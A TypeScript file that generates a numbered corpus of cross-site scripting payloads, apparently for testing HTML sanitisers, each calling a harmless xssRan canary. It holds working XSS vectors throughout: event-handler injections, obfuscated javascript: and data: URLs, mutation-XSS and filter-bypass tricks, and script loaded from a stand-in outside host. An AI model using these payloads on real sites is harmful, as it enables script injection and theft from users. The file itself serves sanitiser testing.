/*
 * Texts that try to become programs: every event handler of the HTML standard, every element that carries one or takes an address,
 * and the tricks of public cheat sheets. Each calls `xssRan` when it runs.
 */

const run = 'xssRan(1)';

/** Handler attributes of the HTML standard and of old browsers. */
const handlers =
  `abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
  beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur bounce cancel canplay canplaythrough change click
  close command contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover
  dragstart drop durationchange emptied ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture
  hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture
  message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pagereveal
  pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
  pointerrawupdate pointerup popstate progress ratechange readystatechange reset resize scroll scrollend search
  securitypolicyviolation seeked seeking select selectionchange selectstart slotchange stalled start storage submit suspend
  timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart
  unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel`.split(/\s+/u);

/** Elements that carry a handler, most of which fires without a person. */
const carriers = [
  (on: string) => `<img src=x on${on}="${run}">`,
  (on: string) => `<svg on${on}=${run}>`,
  (on: string) => `<details open on${on}="${run}"><summary>x</summary></details>`,
  (on: string) => `<input autofocus tabindex=1 on${on}='${run}'>`,
  (on: string) =>
    `<a href="https://portal.example" id=x tabindex=1 style="animation:x 1ms" ON${on.toUpperCase()}="${run}">x</a>`,
  (on: string) => `"><video autoplay src=data:, on${on}=${run}><source on${on}=${run}></video>`,
  (on: string) => `<p title="x"on${on}="${run}"/**/>x</p>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript&colon;${run}`,
  `javascript&Tab;:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzUmFuKDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload='${run}' xmlns='http://www.w3.org/2000/svg'/>`,
  `https://outside.example/x.js`,
  `//outside.example/x`,
];

/** Elements that take an address. */
const holders = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<form action="${url}"><button autofocus>x</button></form>`,
  (url: string) => `<button form=f formaction="${url}">x</button>`,
  (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<link rel=prefetch href="${url}">`,
  (url: string) => `<img src="${url}" srcset="${url} 2x">`,
  (url: string) => `<video src="${url}" poster="${url}"></video>`,
  (url: string) => `<svg><a xlink:href="${url}"><text x=9 y=9>x</text></a></svg>`,
  (url: string) => `<svg><use href="${url}"/><image href="${url}"/></svg>`,
  (url: string) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`,
  (url: string) => `<div style="background:url('${url}')">x</div>`,
  (url: string) => `<style>@import "${url}";*{background:url(${url})}</style>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<body background="${url}"><table background="${url}">`,
  (url: string) => `<svg><animate href=#x attributeName=href values="${url}"/><a id=x><text y=9>x</text></a></svg>`,
];

/** Tricks that got past filters and sanitisers. */
const tricks = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<<script>script>${run}<</script>/script>`,
  `<script/x>${run}</script>`,
  `</textarea></title></style></noscript></script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  `<select><template><svg onload=${run}></template></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<img src=x:x onerror\u000b=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror=\`${run}\`>`,
  `<img """><script>${run}</script>">`,
  `<a href="x"onclick=${run} autofocus onfocus=${run}>x</a>`,
  `<p id="<img src=x onerror=${run}>">x</p>`,
  `<p><style><p title="</style><img src=x onerror=${run}>">`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `{{constructor.constructor('${run}')()}}`,
  '${xssRan(1)}',
  `';${run};//`,
  `";${run};//`,
  `*/${run}/*`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<ul><li onclick=${run}><b onmouseover=${run} style=position:fixed;inset:0>x</b></li></ul>`,
  `<strong contenteditable autofocus onfocus=${run}>x</strong>`,
  `<div id=x popover onbeforetoggle=${run}>x</div><button popovertarget=x autofocus>x</button>`,
  `<dialog open oncancel=${run}><form method=dialog></form></dialog>`,
  `<audio src=x onerror=${run}><track src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<plaintext><img src=x onerror=${run}>`,
];

/** Handlers that fire without a person on one of the carriers. */
const acting = ['error', 'load', 'toggle', 'focus', 'animationstart'];

const payloads = [
  ...tricks,
  ...carriers.flatMap((carrier) => acting.map(carrier)),
  ...handlers.map((on, index) => carriers[index % carriers.length]!(on)),
  ...holders.flatMap((holder) => [addresses[0]!, addresses.at(-2)!].map(holder)),
  ...addresses.flatMap((address) => [holders[0]!, holders[1]!].map((holder) => holder(address))),
];

/** Each payload once, with its own number as the argument of `xssRan`. */
export function numberedPayloads(): string[] {
  // Nothing closes a <plaintext>, which would hide the texts behind it.
  const isLast = (text: string) => Number(text.includes('<plaintext'));
  return [...new Set(payloads)]
    .toSorted((one, other) => isLast(one) - isLast(other))
    .map((text, index) => text.replaceAll('xssRan(1)', `xssRan(${index})`));
}
